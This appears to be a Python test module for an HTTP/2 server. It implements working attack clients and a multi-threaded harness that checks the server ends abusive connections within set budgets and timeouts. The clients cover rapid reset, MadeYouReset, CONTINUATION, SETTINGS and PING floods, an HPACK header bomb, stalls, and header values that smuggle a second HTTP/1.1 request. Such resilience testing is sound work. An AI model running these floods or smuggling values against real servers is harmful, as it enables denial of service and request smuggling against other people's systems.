"""Clients of HTTP/2 that mean harm, frame by frame: each breaks a rule, or keeps all of them and serves nothing.

An attack sends until its connection is ended. `attack()` runs one of them again and again and says how long each connection lasted."""
import dataclasses
import itertools
import socket
import ssl
import struct
import threading
import time

from . import tls

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 7, 8, 9
END_STREAM, END_HEADERS = 1, 4
INITIAL_WINDOW_SIZE = 4


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def _integer(value, prefix_bits, first):
    most = (1 << prefix_bits) - 1
    if value < most:
        return bytes([first | value])
    out, value = [first | most], value - most
    while value >= 128:
        out.append(value % 128 + 128)
        value //= 128
    return bytes(out + [value])


def _text(text):
    data = text.encode("latin-1")
    return _integer(len(data), 7, 0) + data


def literal(name, value):
    """A field line without indexing and without Huffman coding."""
    return b"\0" + _text(name) + _text(value)


def indexed(name, value):
    """One that stays in the table."""
    return b"\x40" + _text(name) + _text(value)


def block(path, *more, method="GET", authority=tls.HOST, scheme="https"):
    lines = [(":method", method), (":scheme", scheme), (":path", path), (":authority", authority), *more]
    return b"".join(literal(name, value) for name, value in lines)


def settings(**values):
    numbers = {"window": INITIAL_WINDOW_SIZE}
    return frame(SETTINGS, 0, 0, b"".join(struct.pack(">HI", numbers[name], value) for name, value in values.items()))


def odd():
    return itertools.count(1, 2)


class Connection:
    """Frames out, frames in. Sending fails once the other side has ended the connection."""

    def __init__(self, node, first=settings()):
        context = ssl.create_default_context(cafile=tls.AUTHORITY)
        context.set_alpn_protocols(["h2"])
        self._socket = context.wrap_socket(socket.create_connection(node.tls, timeout=30), server_hostname=tls.HOST)
        self.started = time.monotonic()
        self.sent = 0
        self.send(PREFACE + first)

    def send(self, data):
        self._socket.settimeout(30)
        self._socket.sendall(data)
        self.sent += len(data)

    def ended(self, within):
        """Reads what comes; whether the connection ends within that many seconds."""
        end = time.monotonic() + within
        try:
            while (left := end - time.monotonic()) > 0:
                self._socket.settimeout(left)
                if not self._socket.recv(65536):
                    return True
        except socket.timeout:
            return False
        except OSError:
            return True
        return False

    def received(self, within=1.0):
        """What comes until nothing has come for so long."""
        data = b""
        self._socket.settimeout(within)
        try:
            while chunk := self._socket.recv(65536):
                data += chunk
        except OSError:
            pass
        return data

    def close(self):
        self._socket.close()


def frames_of(data):
    while len(data) >= 9:
        size = int.from_bytes(data[:3], "big")
        yield data[3], data[4], int.from_bytes(data[5:9], "big") & 0x7fffffff, data[9:9 + size]
        data = data[9 + size:]


# Attacks: generators of what is sent next. A number is a pause in seconds.

def slow_get(stream):
    """A request for what the origin takes its time to answer, and no cache keeps."""
    return frame(HEADERS, END_STREAM | END_HEADERS, stream, block(f"/_/body?latency=30s&cc=no-store&n={stream}"))


def rapid_reset():
    """CVE-2023-44487: requests that are taken back at once."""
    for stream in odd():
        yield slow_get(stream)
        yield frame(RST_STREAM, 0, stream, struct.pack(">I", 8))


def made_you_reset():
    """CVE-2025-8671: requests that make the server take them back, by a window beyond 2^31-1."""
    for stream in odd():
        yield slow_get(stream)
        yield frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", 0x7fffffff))


def made_you_reset_by_malformed():
    """The same by a second block of fields that is no trailer section."""
    for stream in odd():
        yield frame(HEADERS, END_HEADERS, stream, block(f"/_/body?latency=30s&cc=no-store&n={stream}", method="POST"))
        yield frame(HEADERS, END_STREAM | END_HEADERS, stream, literal(":path", "/"))


def made_you_reset_by_window_0():
    """The same by a window that grows by nothing."""
    for stream in odd():
        yield slow_get(stream)
        yield frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", 0))


def made_you_reset_by_data():
    """The same by content behind the end."""
    for stream in odd():
        yield slow_get(stream)
        yield frame(DATA, 0, stream, b"x")


def made_you_reset_by_headers():
    """The same by fields behind the end."""
    for stream in odd():
        yield slow_get(stream)
        yield frame(HEADERS, END_STREAM | END_HEADERS, stream, literal("a", "b"))


def answered_early():
    """A request that is refused (421) while its content is still to come, and then reset with NO_ERROR."""
    return frame(HEADERS, END_HEADERS, 1, block("/1024.bin", scheme="ftp"))


def late_data():
    """Content for a stream that was answered before its end: it is ignored."""
    yield answered_early()
    yield 0.2
    while True:
        yield frame(DATA, 0, 1, b"x") * 20


def late_bombs():
    """Blocks of fields for such a stream: unpacked and ignored."""
    yield answered_early()
    yield 0.2
    while True:
        yield frame(HEADERS, END_STREAM | END_HEADERS, 1, b"\x82" * 16000)


def late_windows():
    """Windows of a stream that has ended."""
    yield frame(HEADERS, END_STREAM | END_HEADERS, 1, block("/1024.bin"))
    yield 0.2
    while True:
        yield frame(WINDOW_UPDATE, 0, 1, struct.pack(">I", 1000)) * 20


def continuation_flood():
    """CVE-2024-27316: a block of fields that never ends."""
    yield frame(HEADERS, END_STREAM, 1, block("/"))
    while True:
        yield frame(CONTINUATION, 0, 1, literal("a", "b") * 100)


def settings_flood():
    """CVE-2019-9515"""
    while True:
        yield settings(window=65535) * 20


def ping_flood():
    """CVE-2019-9512"""
    while True:
        yield frame(PING, 0, 0, b"12345678") * 20


def empty_frames():
    """CVE-2019-9518: frames without content, of a request that does not end."""
    yield frame(HEADERS, END_HEADERS, 1, block("/upload", method="POST"))
    while True:
        yield frame(DATA, 0, 1) * 20


def tiny_windows():
    """CVE-2019-9517 and 9511: answers that may be sent byte by byte."""
    yield settings(window=0)
    for stream in odd():
        yield frame(HEADERS, END_STREAM | END_HEADERS, stream, block("/102400.bin"))
        yield frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", 1)) * 20


def priorities():
    """CVE-2019-9513"""
    while True:
        yield frame(PRIORITY, 0, 1, struct.pack(">IB", 3, 10)) * 20


def header_bomb():
    """CVE-2016-6581: one entry of the table, named again and again."""
    yield frame(HEADERS, END_STREAM | END_HEADERS, 1, block("/1024.bin") + indexed("x-bomb", "b" * 3900))
    for stream in itertools.count(3, 2):
        yield frame(HEADERS, END_STREAM | END_HEADERS, stream, block("/1024.bin") + b"\xbe" * 8000)


def translation():
    """What would be another request in HTTP/1.1."""
    tricks = (("x", "a\r\nhost: evil"), ("x", "a\n\nGET /evil HTTP/1.1"), ("x\r\nevil", "a"), ("x:", "a"), ("transfer-encoding", "chunked"),
              ("connection", "x"), ("content-length", "7"), ("upgrade", "h2c"), ("host", "evil"), ("x", "\0"))
    for stream, trick in zip(odd(), itertools.cycle(tricks)):
        yield frame(HEADERS, END_STREAM | END_HEADERS, stream, block("/evil", trick))


def slow_header():
    """A block of fields, a line now and then."""
    yield frame(HEADERS, END_STREAM, 1, block("/"))
    while True:
        yield 0.4
        yield frame(CONTINUATION, 0, 1, literal("a", "b"))


STALLS = 120


def window_stall():
    """Answers that may never be sent. All are asked for at once, in one record of TLS: of those that begin some milliseconds apart the first
    alone may be due, spend the budget and end the connection, and with it the others, whose time was not up."""
    yield settings(window=0)
    yield b"".join(frame(HEADERS, END_STREAM | END_HEADERS, stream, block("/102400.bin")) for stream in range(1, 2 * STALLS, 2))
    while True:
        yield 0.4
        yield frame(PING, 0, 0, b"12345678")


DRIPS = 20


def drip():
    """Answers that may be sent a little at a time."""
    yield settings(window=300)
    streams = range(1, 2 * DRIPS, 2)
    for stream in streams:
        yield frame(HEADERS, END_STREAM | END_HEADERS, stream, block("/102400.bin"))
    for _ in range(3):
        yield 2.0
        yield b"".join(frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", 256)) for stream in streams)
    while True:
        yield 1.0


@dataclasses.dataclass(frozen=True)
class Expected:
    """What becomes of a connection on a node whose timeouts are TIMEOUTS."""
    within: float | None = 10.0  # seconds from its first byte to its end; None: it goes on
    budget: bool = True          # its budget ends it; not a rule of the protocol, which is broken openly, nor a timeout
    timeouts: int = 0            # streams or connections that are ended by a timeout, at least


TIMEOUTS = {"header": "3s", "write_stall": "3s", "request_body": "3s"}
BY_RULE = Expected(budget=False)
ATTACKS = {
    rapid_reset: Expected(), made_you_reset: Expected(), made_you_reset_by_malformed: Expected(), made_you_reset_by_window_0: BY_RULE,
    made_you_reset_by_data: BY_RULE, made_you_reset_by_headers: BY_RULE, late_data: Expected(), late_bombs: Expected(),
    late_windows: Expected(), continuation_flood: Expected(), settings_flood: Expected(), ping_flood: Expected(), empty_frames: Expected(),
    tiny_windows: Expected(), priorities: Expected(), header_bomb: Expected(), translation: Expected(),
    slow_header: Expected(within=15.0, budget=False, timeouts=1), window_stall: Expected(within=15.0, timeouts=STALLS),
    drip: Expected(within=None, budget=False, timeouts=DRIPS),
}


class Result:
    """Of all connections of an attack."""

    def __init__(self):
        self.connections = 0  # that the server ended
        self.lasting = 0      # that it did not
        self.sent = 0
        self.longest = 0.0
        self.errors = []

    def add(self, other):
        self.connections += other.connections
        self.lasting += other.lasting
        self.sent += other.sent
        self.longest = max(self.longest, other.longest)
        self.errors += other.errors


def strike(node, attack, until):
    """One connection: how long it lasted, what was sent, and whether the server ended it."""
    connection = Connection(node)
    ended = False
    try:
        for step in attack():
            if time.monotonic() > until:
                break
            if isinstance(step, float):
                if connection.ended(within=step):
                    raise ConnectionError
            else:
                connection.send(step)
        ended = connection.ended(within=0.1)
    except OSError:
        ended = True
    lasted = time.monotonic() - connection.started
    connection.close()
    return lasted, connection.sent, ended


def besiege(node, attack, seconds, connections=10**9):
    """Runs an attack for so long, or until that many of its connections have been ended."""
    result = Result()
    until = time.monotonic() + seconds
    while time.monotonic() < until and result.connections < connections:
        try:
            lasted, sent, ended = strike(node, attack, until)
        except OSError as error:
            result.errors.append(str(error))
            threading.Event().wait(0.1)
            continue
        result.sent += sent
        result.connections += ended
        result.lasting += not ended
        result.longest = max(result.longest, lasted if ended else 0.0)
    return result


class Siege:
    """Several attackers at once, each with one connection after another, beside what the caller does meanwhile."""

    def __init__(self, node, attack, seconds, attackers=4):
        self._result = Result()
        lock = threading.Lock()

        def run():
            result = besiege(node, attack, seconds)
            with lock:
                self._result.add(result)

        self._threads = [threading.Thread(target=run) for _ in range(attackers)]
        for thread in self._threads:
            thread.start()

    def result(self):
        for thread in self._threads:
            thread.join()
        return self._result
